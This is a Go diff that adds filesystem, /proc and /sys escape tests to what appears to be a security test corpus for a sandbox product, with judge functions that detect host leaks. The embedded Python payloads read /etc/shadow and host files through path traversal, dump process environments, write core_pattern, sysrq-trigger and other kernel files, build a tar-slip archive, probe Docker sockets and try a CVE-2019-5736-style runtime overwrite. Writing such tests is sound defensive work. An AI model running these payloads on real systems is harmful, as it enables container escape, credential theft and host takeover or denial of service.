@@ -1,40 +1,473 @@
 package corpus
 
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+
+	"github.com/enclave-run/enclave"
+	"github.com/enclave-run/enclave/internal/mountinfo"
+)
+
 // fileAttacks are group C: files, /proc, /sys.
 var fileAttacks = []attack{
 	{
 		id:    "C01",
 		smoke: true,
 		// The image has an /etc/shadow of its own, which may be read; the flag is in
-		// a file that only the host has.
+		// a file that only the host has, and so are the host's accounts.
 		code: `
 print('$ARMED', flush=True)
 for p in ('/etc/shadow', '$FLAG'):
     try: print(open(p).read())
     except OSError as e: print(p, e.errno)
 `,
+		judge:   hostAccounts,
 		control: onBare(bare{}),
+	},
+	{
+		id:    "C02",
+		smoke: true,
+		code: `
+print('$ARMED', flush=True)
+for p in ('/../../../..$FLAG', '/work/../..$FLAG', '/proc/self/root$FLAG', '/proc/1/root$FLAG', '/proc/1/cwd/../../../..$FLAG',
+          '/proc/self/cwd/../../../..$FLAG', '/.enclave/../../../..$FLAG', '/host$FLAG', '/mnt$FLAG', '/dev/fd/0/../../..$FLAG'):
+    try: print(open(p).read())
+    except OSError as e: print(p, e.errno)
+`,
+		control: onBare(bare{}),
+	},
+	{
+		id: "C04",
+		instead: "nothing collects files from a sandbox; what looks at them is the counter of the disk, which must neither wait for " +
+			"a FIFO nor take the length of a file with holes for what it holds",
+		held:    true,
+		onceEnd: true,
+		code: `
+import os, time
+print('$ARMED', flush=True)
+os.mkfifo('/work/out.json'); os.makedirs('/work/dir.json/' + 'd/' * 500)
+try: open('/work/sparse', 'w').truncate(1 << 44)
+except OSError as e: open('/work/sparse', 'w').truncate(1 << 40)
+print('$HELD', flush=True); time.sleep(1)
+`,
+		judge: func(r *run) []finding {
+			if r.bare || r.session.Outcome == enclave.Succeeded {
+				return nil
+			}
+			return []finding{found(hostDoS, "files that hold nothing ended the session as %s %s", r.session.Outcome, r.session.KillReason)}
+		},
+		control: onBare(bare{look: collectNaively}),
+	},
+	{
+		id: "C05",
+		instead: "nothing unpacks an archive of a sandbox; what takes paths from outside is the list of files in a request, " +
+			"which gets the same names",
+		held: true,
+		code: `
+import io, signal, tarfile
+t = tarfile.open('/work/a.tar', 'w')
+for n in ('../../$NONCE', '/$NONCE-abs', 'a/../../$NONCE-dots'):
+    i = tarfile.TarInfo(n); i.size = 1; t.addfile(i, io.BytesIO(b'x'))
+i = tarfile.TarInfo('l'); i.type = b'2'; i.linkname = '/etc'; t.addfile(i)
+i = tarfile.TarInfo('l/$NONCE-link'); i.size = 1; t.addfile(i, io.BytesIO(b'x')); t.close()
+print('$ARMED', flush=True)
+print('$HELD', flush=True); signal.pause()
+`,
+		judge:   filesOutsideAreRefused,
+		control: onBare(bare{look: unpackNaively}),
+	},
+	{
+		id:    "C07",
+		smoke: true,
+		code: `
+import glob
+print('$ARMED', flush=True)
+for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + ['/proc/self/environ', '/proc/cmdline', '/proc/version']:
+    try: print(p, open(p, 'rb').read()[:4000])
+    except OSError as e: print(p, e.errno)
+`,
+		judge:   hostPaths,
+		control: onBare(bare{}),
+	},
+	{
+		id:    "C08",
+		smoke: true,
+		held:  true,
+		code: `
+import os, signal
+print('$ARMED', flush=True)
+for f in os.listdir('/proc/self/fd'):
+    try: l = os.readlink('/proc/self/fd/' + f)
+    except OSError: continue
+    print(f, l)
+    for up in ('', '/../..' ):
+        try: print(os.listdir('/proc/self/fd/' + f + up)[:5])
+        except OSError: pass
+    try: print(open('/proc/self/fd/' + f + '/../../../../../..$FLAG').read())
+    except OSError: pass
+print('$HELD', flush=True); signal.pause()
+`,
+		judge:   directoriesLeftOpen,
+		control: onBare(bare{image: true, inherit: func(r *run) string { return filepath.Dir(r.flagPath) }}),
+	},
+	{
+		id:    "C10",
+		smoke: true,
+		code: `
+print('$ARMED', flush=True)
+for p in (` + quoted(kernelFiles) + `'/sys/fs/cgroup/memory.max', '/sys/fs/cgroup/pids/pids.max', '/proc/self/attr/exec', '/proc/1/oom_score_adj'):
+    try: open(p, 'w').write('|/$NONCE'); print('WROTE', p)
+    except OSError as e: print(p, e.errno)
+`,
+		control: onBare(bare{stand: kernelFiles}),
+	},
+	{
+		id:    "C11",
+		smoke: true,
+		// By system calls: the image has no program called mount. Controllers that
+		// the host has mounted: another would leave a hierarchy behind in the control.
+		code: sc + `
+def make(point, kind, data):
+    os.makedirs(point, exist_ok=True)
+    if sc(165, b'$NONCE', point.encode(), kind, 0, data) == 0:
+        os.mkdir(point + '/$NONCE'); open(point + '/$NONCE/notify_on_release', 'w').write('1')
+def attempt():
+    for c in (b'memory', b'pids', b'freezer', b'devices'):
+        try: make('/tmp/c-' + c.decode(), b'cgroup', c)
+        except OSError as e: print(e)
+    try: make('/tmp/c-2', b'cgroup2', 0)
+    except OSError as e: print(e)
+print('$ARMED', flush=True)
+attempt()
+if os.fork() == 0:
+    sc(272, 0x10000000 | 0x20000 | 0x2000000)   # user, mount and cgroup namespaces of its own
+    attempt(); os._exit(0)
+os.wait()
+for d in ['/sys/fs/cgroup'] + ['/sys/fs/cgroup/' + n for n in ('memory', 'pids', 'freezer', 'unified', 'systemd')]:
+    try: os.mkdir(d + '/$NONCE')
+    except OSError as e: print(e)
+`,
+		control: onBare(bare{cgroups: true}),
+	},
+	{
+		id:      "C13",
+		smoke:   true,
+		prepare: hostSockets,
+		code: `
+import glob, os, socket
+print('$ARMED', flush=True)
+for p in ['/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock'] + glob.glob('/run/runsc*') + glob.glob('/run/enclave-*') + glob.glob('/tmp/enclave*'):
+    if os.path.exists(p): print('FOUND', p)
+for a in ('\0enclave-corpus-$NONCE', '/run/enclave-corpus-$NONCE.sock'):
+    s = socket.socket(socket.AF_UNIX)
+    try: s.connect(a); s.sendall(b'$NONCE'); print('CONNECTED', a[1:])
+    except OSError as e: print(e)
+print(open('/proc/net/unix').read())
+`,
+		judge: func(r *run) (all []finding) {
+			for line := range strings.Lines(r.stdout()) {
+				if strings.HasPrefix(line, "FOUND") || strings.Contains(line, "@"+ours) {
+					all = append(all, found(hostLeak, "a socket of the host is seen: %s", strings.TrimSpace(line)))
+				}
+			}
+			return append(all, hostPaths(r)...)
+		},
+		control: onBare(bare{network: true}),
 	},
 	{
 		id:    "C14",
 		smoke: true,
 		code: `
-import os
 print('$ARMED', flush=True)
-for p in ('/$NONCE', '/usr/bin/python3', '/etc/passwd', '/etc/ld.so.preload', '/lib/$NONCE.so', '/usr/bin/env', '/.enclave/enclave-guest'):
+for p in ('/$NONCE', '/usr/bin/python3', '/etc/passwd', '/etc/ld.so.preload', '/lib/$NONCE.so', '/usr/bin/env', '/.enclave/enclave-guest', '/etc/resolv.conf'):
     try: open(p, 'a').write('x'); print('WROTE', p)
     except OSError as e: print(p, e.errno)
 `,
+		judge:   nextSessionIsClean,
 		control: onBare(bare{image: true}),
 	},
-	{id: "C02", missing: "its translation comes next"},
-	{id: "C04", missing: "its translation comes next"},
-	{id: "C05", missing: "its translation comes next"},
-	{id: "C07", missing: "its translation comes next"},
-	{id: "C08", missing: "its translation comes next"},
-	{id: "C10", missing: "its translation comes next"},
-	{id: "C11", missing: "its translation comes next"},
-	{id: "C13", missing: "its translation comes next"},
-	{id: "C16", missing: "its translation comes next"},
-	{id: "C17", missing: "its translation comes next"},
+	{
+		id:    "C16",
+		smoke: true,
+		code: `
+print('$ARMED', flush=True)
+for p in ('mountinfo', 'mounts', 'mountstats', 'cgroup', 'cpuset'):
+    try: print(open('/proc/self/' + p).read())
+    except OSError as e: print(p, e)
+`,
+		judge:   mountsOfTheHost,
+		control: onBare(bare{}),
+	},
+	{
+		id: "C17",
+		// A program that runs can't be written (ETXTBSY): the way of CVE-2019-5736 is
+		// to keep it open and to write it when it ends.
+		prepare: sumPrograms,
+		code: `
+import glob, os, time
+held = []
+for p in glob.glob('/proc/[0-9]*/exe') + ['/proc/self/exe', '/.enclave/enclave-guest']:
+    try: held.append(os.open(p, os.O_RDONLY))
+    except OSError as e: print(p, e.errno)
+    try: held.append(os.open(p, os.O_PATH))
+    except OSError as e: print(p, e.errno)
+print('$ARMED', len(held), flush=True)
+end = time.time() + 3
+while time.time() < end:
+    for f in held:
+        try: os.write(os.open('/proc/self/fd/%d' % f, os.O_WRONLY | os.O_APPEND), b'$NONCE'); print('WROTE', os.readlink('/proc/self/fd/%d' % f)); end = 0
+        except OSError: pass
+    time.sleep(0.05)
+`,
+		judge:   programsAreWhatTheyWere,
+		control: onBare(bare{companion: true}),
+	},
+}
+
+// kernelFiles are those whose writing takes the host over, or brings it down.
+var kernelFiles = []string{
+	"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/fs/binfmt_misc/register",
+	"/sys/kernel/uevent_helper", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname", "/proc/sys/vm/panic_on_oom",
+	"/sys/kernel/mm/transparent_hugepage/enabled",
+}
+
+func quoted(paths []string) string {
+	var b strings.Builder
+	for _, p := range paths {
+		fmt.Fprintf(&b, "'%s', ", p)
+	}
+	return b.String()
+}
+
+// hostAccounts finds a line of the host's /etc/shadow that the image lacks.
+func hostAccounts(r *run) []finding {
+	host, err := os.ReadFile("/etc/shadow")
+	if err != nil {
+		return []finding{found(infra, "%v", err)}
+	}
+	image, err := os.ReadFile(filepath.Join(r.world.rootfs, "etc/shadow"))
+	if err != nil && !errors.Is(err, fs.ErrNotExist) {
+		return []finding{found(infra, "%v", err)}
+	}
+	for line := range bytes.Lines(host) {
+		if line = bytes.TrimSpace(line); len(line) == 0 || bytes.Contains(image, line) {
+			continue
+		}
+		for _, s := range r.surfaces {
+			if bytes.Contains(s.raw, line) {
+				return []finding{found(hostLeak, "a line of the host's /etc/shadow is in %s", s.name)}
+			}
+		}
+	}
+	return nil
+}
+
+// hostPaths finds where on the host the sandbox lies, or whose it is, in what the
+// workload could read.
+func hostPaths(r *run) []finding { return pathsIn(r, strings.ReplaceAll(r.stdout(), r.flagPath, "")) }
+
+func pathsIn(r *run, text string) (all []finding) {
+	forbidden := map[string]string{
+		"the directory of the sandboxes": r.world.dir, "the directory of the image": r.world.rootfs, "the instance of the control plane": r.world.instance,
+		"the address of the control plane": r.world.plane.URL, "the tenant": "acme", "a directory of the harness": "/var/tmp/" + ours,
+	}
+	for what, s := range forbidden {
+		if s != "" && strings.Contains(text, s) {
+			all = append(all, found(hostLeak, "the workload can read %s (%s)", what, s))
+		}
+	}
+	return all
+}
+
+// mountsOfTheHost is hostPaths but for what Docker can't hide: the kernel shows
+// each process where the bind mounts of its container come from, and with which
+// directories of the daemon its root was made (docs/docker.md).
+func mountsOfTheHost(r *run) []finding {
+	if r.world.kernel.letter != "D" || r.bare {
+		return hostPaths(r)
+	}
+	var rest strings.Builder
+	for line := range strings.Lines(r.stdout()) {
+		m, err := mountinfo.Parse(line)
+		declared := err == nil && len(m) == 1 && slices.Contains([]string{"/", "/.enclave", "/etc/resolv.conf", "/etc/hosts", "/etc/hostname"}, m[0].Point)
+		if !declared {
+			rest.WriteString(line)
+		}
+	}
+	r.declared = "on Docker the workload can read where the daemon's and Enclave's directories are"
+	return pathsIn(r, rest.String())
+}
+
+// collectNaively is a collector of results that trusts names.
+func collectNaively(r *run, root string) error {
+	for _, n := range []string{"out.json", "sparse"} {
+		fi, err := os.Lstat(filepath.Join(root, "work", n))
+		if err != nil {
+			return err
+		}
+		if fi.Mode()&fs.ModeNamedPipe != 0 {
+			r.find(hostDoS, "whoever opens %s waits for ever", n)
+		}
+		if fi.Size() >= 1<<40 {
+			r.find(hostDoS, "whoever reads %s reads %d bytes", n, fi.Size())
+		}
+	}
+	return nil
+}
+
+// unpackNaively is an unpacker that trusts names, inside of the victim.
+func unpackNaively(r *run, root string) error {
+	out, err := exec.Command("chroot", root, "sh", "-c", "mkdir -p /work/x/y && cd /work/x/y && tar -xPf /work/a.tar").CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("unpack: %w: %s", err, out)
+	}
+	return nil
+}
+
+// filesOutsideAreRefused asks for sessions with files outside of /work.
+func filesOutsideAreRefused(r *run) (all []finding) {
+	if r.bare {
+		return nil
+	}
+	for _, name := range []string{"../../" + r.nonce, "/" + r.nonce, "a/../../" + r.nonce, "..", "a/..", "./../" + r.nonce, "a\x00b", "", "/", "a//../../b"} {
+		h, err := r.world.client.Run(context.Background(), enclave.SessionRequest{Code: "pass", Files: map[string]string{name: "x"}})
+		if err == nil {
+			all = append(all, found(escape, "a session has a file called %q", name))
+			_ = h.Teardown(context.Background())
+		} else if !errors.Is(err, enclave.ErrInvalid) {
+			all = append(all, found(hostDoS, "a file called %q is answered with %v", name, err))
+		}
+	}
+	r.proofs = append(r.proofs, "files outside of /work are refused in a request")
+	return all
+}
+
+// directoriesLeftOpen finds a directory of the host that a workload's process, as
+// the host sees it, has open. gVisor's workloads are no processes of the host.
+func directoriesLeftOpen(r *run) (all []finding) {
+	for _, t := range r.tasks {
+		if !strings.Contains(t.cmd, "python") {
+			continue
+		}
+		for _, f := range t.fds {
+			if strings.HasPrefix(f.link, "/") && !strings.HasPrefix(f.link, "/dev/") && f.link != "/proc/"+fmt.Sprint(t.pid)+"/fd" {
+				all = append(all, found(hostLeak, "the workload has %s open", f.link))
+			}
+		}
+	}
+	return append(all, hostPaths(r)...)
+}
+
+// hostSockets listens on a socket with a name in no directory and on one in /run.
+// Whoever connects is no client of theirs.
+func hostSockets(r *run) error {
+	for _, name := range []string{"@" + ours + r.nonce, "/run/" + ours + r.nonce + ".sock"} {
+		l, err := net.Listen("unix", name)
+		if err != nil {
+			return err
+		}
+		if name[0] == '/' {
+			if err := os.Chmod(name, 0o777); err != nil {
+				return err
+			}
+		}
+		var serving sync.WaitGroup
+		serving.Go(func() {
+			for {
+				c, err := l.Accept()
+				if err != nil {
+					return
+				}
+				c.Close()
+				r.find(lateral, "the sandbox connected to %s of the host", name)
+			}
+		})
+		r.cleanup(func() { l.Close(); serving.Wait() })
+	}
+	return nil
+}
+
+// nextSessionIsClean looks for what the attack would have left in the image.
+func nextSessionIsClean(r *run) []finding {
+	if r.bare {
+		return nil
+	}
+	if err := r.world.clean(context.Background(), clean{name: "the next session", code: "import os\nenclave.result([p for p in os.listdir('/') + os.listdir('/lib/') if '" + r.nonce + "' in p])", want: "[]"}); err != "" {
+		return []finding{found(escape, "the next session: %s", err)}
+	}
+	r.proofs = append(r.proofs, "the next session of the same image has nothing of it")
+	return nil
+}
+
+// sumPrograms notes what the programs are that run a sandbox.
+func sumPrograms(r *run) error {
+	var err error
+	r.sums, err = sums(r.world)
+	return err
+}
+
+func programsAreWhatTheyWere(r *run) []finding {
+	after, err := sums(r.world)
+	if err != nil {
+		return []finding{found(infra, "%v", err)}
+	}
+	var all []finding
+	for p, was := range r.sums {
+		if now, ok := after[p]; ok && now != was {
+			all = append(all, found(escape, "the program %s was written", p))
+		}
+	}
+	r.proofs = append(r.proofs, fmt.Sprintf("SHA-256 of %d programs unchanged", len(r.sums)))
+	return all
+}
+
+// sums are those of all programs that the backend starts: its own and its copies.
+func sums(w *world) (map[string]string, error) {
+	list := append([]string(nil), w.programs...)
+	for _, name := range []string{"runc", "containerd-shim-runc-v2", "dockerd"} {
+		if p, err := exec.LookPath(name); err == nil {
+			list = append(list, p)
+		}
+	}
+	err := filepath.WalkDir(w.dir, func(p string, d fs.DirEntry, err error) error {
+		if err == nil && d.Type().IsRegular() {
+			if fi, err := d.Info(); err == nil && fi.Mode()&0o111 != 0 && fi.Size() > 1<<20 {
+				list = append(list, p)
+			}
+		}
+		return nil // a sandbox's directory may go meanwhile
+	})
+	if err != nil {
+		return nil, err
+	}
+	all := map[string]string{}
+	for _, p := range list {
+		f, err := os.Open(p)
+		if errors.Is(err, fs.ErrNotExist) {
+			continue
+		} else if err != nil {
+			return nil, err
+		}
+		h := sha256.New()
+		_, err = io.Copy(h, f)
+		f.Close()
+		if err != nil {
+			return nil, err
+		}
+		all[p] = hex.EncodeToString(h.Sum(nil))
+	}
+	return all, nil
 }
